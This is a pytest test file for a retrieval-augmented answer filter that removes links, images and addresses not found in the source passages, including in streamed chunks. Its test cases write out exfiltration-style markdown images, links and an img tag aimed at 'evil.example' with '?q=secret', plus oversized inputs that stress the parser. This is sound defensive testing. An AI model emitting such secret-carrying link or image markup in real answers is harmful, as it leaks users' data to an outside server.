"""Addresses in answers: only those that the passages hold leave the server, and no image does."""

from collections.abc import Iterable, Iterator

import pytest

from rag.outgoing import Outgoing, addresses, checked

ALLOWED = addresses(
    ["See [the plan](https://ok.example/plan), (https://ok.example/hours) and <https://ok.example/a_b>."]
)


def passing(pieces: Iterable[str], allowed: frozenset[str]) -> Iterator[str]:
    gate = Outgoing(allowed)
    yield from filter(None, map(gate.take, pieces))
    yield from filter(None, [gate.rest()])


@pytest.mark.parametrize(
    ("written", "leaves"),
    [
        ("See [it](https://ok.example/plan) [1].", "See [it](https://ok.example/plan) [1]."),
        ("See https://ok.example/hours.", "See https://ok.example/hours."),
        ("See [it](https://evil.example/) [1].", "See it [1]."),
        ("See https://evil.example/?q=secret, please.", "See (address removed), please."),
        ("See https://ok.example/plan?q=secret.", "See (address removed)."),
        ("Look: ![a plan](https://ok.example/plan) here.", "Look: a plan here."),
        ("![](https://evil.example/?q=secret) done", " done"),
        ("[![x](https://evil.example/1)](https://evil.example/2) y", "x y"),
        ("a <img src='https://evil.example/x'> b", "a  b"),
        ("Go to www.evil.example now.", "Go to (address removed) now."),
        ("[x](//evil.example/y) z", "x z"),
        ("[x](javascript:alert) z", "x z"),
        ("Is a < b, items[0], [1][2] and 5 > 3?", "Is a < b, items[0], [1][2] and 5 > 3?"),
        ("Write to rag/prompts.py and `x[1]`.", "Write to rag/prompts.py and `x[1]`."),
        ("An [open bracket and no end", "An [open bracket and no end"),
    ],
)
def test_what_leaves(written: str, leaves: str) -> None:
    assert checked(written, ALLOWED) == leaves
    for size in (1, 3, 7):
        pieces = [written[start : start + size] for start in range(0, len(written), size)]
        assert "".join(passing(pieces, ALLOWED)) == leaves


def test_text_is_not_held_back_for_long() -> None:
    pieces = list(passing(["The library ", "is open ", "until six ", "[1]. ", "And so on."], frozenset()))
    assert len(pieces) >= 4


@pytest.mark.parametrize(
    "hostile", ["[" * 100_000, "![" * 50_000, "<a " * 30_000, "](" * 50_000, "a.b/" * 25_000, "http:" * 20_000]
)
def test_hostile_answers_are_checked_in_time(hostile: str) -> None:
    checked(hostile, frozenset())


def test_the_first_word_waits_for_no_second() -> None:
    assert next(passing(["The", " library", " is open."], frozenset())) == "The"


@pytest.mark.parametrize(
    ("pieces", "leaves"),
    [
        (["evil", ".example/x?q=secret", " is it."], "evil(address removed) is it."),
        (["tel", "net", "://evil.example/secret", " now"], "tel(address removed) now"),
        (["https", "://evil.example/secret"], "(address removed)"),
    ],
)
def test_a_first_word_that_begins_an_address_carries_nothing_out(pieces: list[str], leaves: str) -> None:
    assert "".join(passing(pieces, frozenset())) == leaves


def test_writing_without_spaces_is_not_held_back() -> None:
    pieces = ["图书馆", "九点开门，", "HTTP", "接口见", "[1]", "。", "网址", "https://evil", ".example/", " 完"]
    assert list(passing(pieces, frozenset()))[:5] == ["图书馆", "九点开门，", "HTTP接口见", "[1]。", "网址"]
    assert "".join(passing(pieces, frozenset())) == "图书馆九点开门，HTTP接口见[1]。网址(address removed) 完"
